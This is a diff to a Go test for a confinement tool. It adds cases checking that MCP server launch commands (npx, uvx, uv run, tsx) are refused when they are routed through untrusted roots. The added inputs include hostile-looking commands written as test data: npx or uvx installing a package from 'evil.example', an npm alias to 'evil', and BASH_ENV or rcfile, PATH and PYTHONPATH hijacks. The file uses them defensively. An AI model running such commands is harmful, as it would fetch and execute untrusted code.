@@ -56,6 +56,13 @@ func TestAProfileIsNotClaimed(t *testing.T) {
 	planted := link(".local/bin/planted", at("work/rooted/node_modules/@playwright/mcp/cli.js"))
 	cli := at("tools/node_modules/@playwright/mcp/cli.js")
 	in := func(p program.Program, change func(*program.Program)) program.Program { change(&p); return p }
+	for _, f := range []string{"work/rooted/python3", "work/rooted/npx", "work/rooted/rc", "work/rooted/rc.js", "work/rooted/x.js"} {
+		putFile(t, at(f), "")
+	}
+	srv := func(p *program.Program) { p.Cwd = at("srv") }
+	path := func(p *program.Program) {
+		p.Cwd, p.Env = at("srv"), map[string]string{"PATH": at("work/rooted") + ":" + at(".local/bin")}
+	}
 	for _, tc := range []struct {
 		name string
 		prog program.Program
@@ -82,6 +89,10 @@ func TestAProfileIsNotClaimed(t *testing.T) {
 		{"tsx of a project", confinedProgram(at("tools/node_modules/tsx/dist/cli.mjs"), at("work/server/index.ts")), "", "tsx"},
 		{"tsx on PATH", confinedProgram("tsx", at("work/server/index.ts")), "", "tsx"},
 		{"tsx by npx", confinedProgram("npx", "-y", "tsx", at("work/server/index.ts")), "", "tsx"},
+		{"npx in a shell, with a file of its own in a root", confinedProgram("bash", "-c", "npx -y @playwright/mcp --config "+at("work/rooted/rc")), "", "playwright"},
+		{"npx behind timeout, with a file of its own in a root", confinedProgram("timeout", "5", "npx", "-y", "@playwright/mcp", "--config", at("work/rooted/rc")), "", "playwright"},
+		{"tsx of a script in a root, behind timeout", confinedProgram("timeout", "5", "tsx", at("work/rooted/x.js")), "", "tsx"},
+		{"npx of the package, and its program by name", confinedProgram("npx", "-y", "--package=tsx", "tsx", at("work/server/index.ts")), "", "tsx"},
 		{"tsx in a root", confinedProgram(at("work/rooted/node_modules/tsx/dist/cli.mjs"), at("work/server/index.ts")), "", ""},
 
 		{"a file in a root", confinedProgram("node", at("work/rooted/node_modules/@playwright/mcp/cli.js")), "", ""},
@@ -107,6 +118,39 @@ func TestAProfileIsNotClaimed(t *testing.T) {
 		{"a script that is called like a program", in(confinedProgram("node", "gopls"), func(p *program.Program) { p.Cwd = at("srv") }), "", ""},
 		{"behind what is not known", confinedProgram("op", "run", "--", "npx", "-y", "@playwright/mcp"), "", ""},
 		{"a flag that is not known", confinedProgram("npx", "--offline", "@playwright/mcp"), "", ""},
+		{"an interpreter in a root, behind timeout", in(confinedProgram("timeout", "5", at("work/rooted/python3"), "-m", "mcp_server_git"), srv), "", ""},
+		{"an interpreter in a root, by PATH of env", in(confinedProgram("env", "PATH="+at("work/rooted"), "python3", "-m", "mcp_server_git"), srv), "", ""},
+		{"an interpreter in a root, by PATH", in(confinedProgram("timeout", "5", "python3", "-m", "mcp_server_git"), path), "", ""},
+		{"npx in a root, by PATH behind timeout", in(confinedProgram("timeout", "5", "npx", "@playwright/mcp"), path), "", ""},
+		{"npx in a root, by PATH in a shell", in(confinedProgram("bash", "-c", "npx @playwright/mcp"), path), "", ""},
+		{"a program in a root, by PATH in a shell", in(confinedProgram("bash", "-c", "gopls mcp"), path), "", ""},
+		{"a module, where env enters a root", in(confinedProgram("env", "-C", at("work/rooted"), "python3", "-m", "mcp_server_git"), srv), "", ""},
+		{"a module, which a root may have, by env", in(confinedProgram("env", "PYTHONPATH="+at("work/rooted"), "python3", "-m", "mcp_server_git"), srv), "", ""},
+		{"a module, where env enters a root in a shell", in(confinedProgram("bash", "-c", "env -C "+at("work/rooted")+" python3 -m mcp_server_git"), srv), "", ""},
+		{"an interpreter in a root, behind timeout in a shell", in(confinedProgram("bash", "-c", "timeout 5 "+at("work/rooted/python3")+" -m mcp_server_git"), srv), "", ""},
+		{"an interpreter in a root, in a shell", in(confinedProgram("bash", "-c", at("work/rooted/python3")+" -m mcp_server_git"), srv), "", ""},
+		{"uv run in a root, in a shell", in(confinedProgram("bash", "-c", "uv run --directory "+at("work/rooted")+" mcp-server-git"), srv), "", ""},
+		{"npx, where env enters a root in a shell", in(confinedProgram("bash", "-c", "env -C "+at("work/rooted")+" npx @playwright/mcp"), srv), "", ""},
+		{"npx in a root, in a shell", in(confinedProgram("bash", "-c", at("work/rooted/node_modules/.bin/npx")+" @playwright/mcp"), srv), "", ""},
+		{"npx with a folder in a root, in a shell", in(confinedProgram("bash", "-c", "npx --prefix "+at("work/rooted")+" @playwright/mcp"), srv), "", ""},
+		{"npx in a root, behind timeout", in(confinedProgram("timeout", "5", at("work/rooted/node_modules/.bin/npx"), "@playwright/mcp"), srv), "", ""},
+		{"uv run in a root, by a variable", in(confinedProgram("uv", "run", "mcp-server-git"), func(p *program.Program) { p.Env = map[string]string{"UV_PROJECT": at("work/rooted")} }), "", ""},
+		{"uv run with an environment in a root", in(confinedProgram("uv", "run", "mcp-server-git"), func(p *program.Program) { p.Env = map[string]string{"UV_PROJECT_ENVIRONMENT": at("work/rooted")} }), "", ""},
+		{"uv run where a root may have it", in(confinedProgram("uv", "run", "mcp-server-git"), func(p *program.Program) { p.Cwd = at("work/rooted") }), "", ""},
+		{"a shell that obeys a file of a root", in(confinedProgram("bash", "--rcfile", at("work/rooted/rc"), "-ic", "gopls mcp"), srv), "", ""},
+		{"a shell that obeys a file of a root, by a variable", in(confinedProgram("bash", "-c", "gopls mcp"), func(p *program.Program) { p.Env = map[string]string{"BASH_ENV": at("work/rooted/rc")} }), "", ""},
+		{"uv run of an interpreter in a root", in(confinedProgram("uv", "run", at("work/rooted/python3"), "-m", "mcp_server_git"), srv), "", ""},
+		{"uv run by an interpreter in a root", in(confinedProgram("uv", "run", "--python", at("work/rooted/python3"), "mcp-server-git"), srv), "", ""},
+		{"uvx with a package in a root", in(confinedProgram("uvx", "--with", at("work/rooted"), "mcp-server-git"), srv), "", ""},
+		{"uvx by an interpreter in a root", in(confinedProgram("uvx", "--python", at("work/rooted/python3"), "mcp-server-git"), srv), "", ""},
+		{"uvx of a package in a root that bears the name", in(confinedProgram("uvx", "--from", "mcp-server-git@"+at("work/rooted"), "mcp-server-git"), srv), "", ""},
+		{"npx of a package in a root that bears the name", in(confinedProgram("npx", "-y", "@playwright/mcp@file:"+at("work/rooted")), srv), "", ""},
+		{"npx of another package under the name", in(confinedProgram("npx", "-y", "@playwright/mcp@npm:evil"), srv), "", ""},
+		{"npx of a package of the name from elsewhere", in(confinedProgram("npx", "-y", "@playwright/mcp@https://evil.example/x.tgz"), srv), "", ""},
+		{"uvx of a package of the name from elsewhere", in(confinedProgram("uvx", "--from", "mcp-server-git@https://evil.example/x.tgz", "mcp-server-git"), srv), "", ""},
+		{"npx, and a text", in(confinedProgram("npx", "-y", "--package=@playwright/mcp", "-c", "evil"), srv), "", ""},
+		{"npx of the package, and a script", in(confinedProgram("npx", "-y", "--package=@playwright/mcp", "node", at("work/rooted/x.js")), srv), "", ""},
+		{"npx of the package, and a script, in a shell", in(confinedProgram("bash", "-c", "npx -y --package=@playwright/mcp node "+at("work/rooted/x.js")), srv), "", ""},
 		{"in a container", confinedProgram("docker", "run", "gopls"), "", ""},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
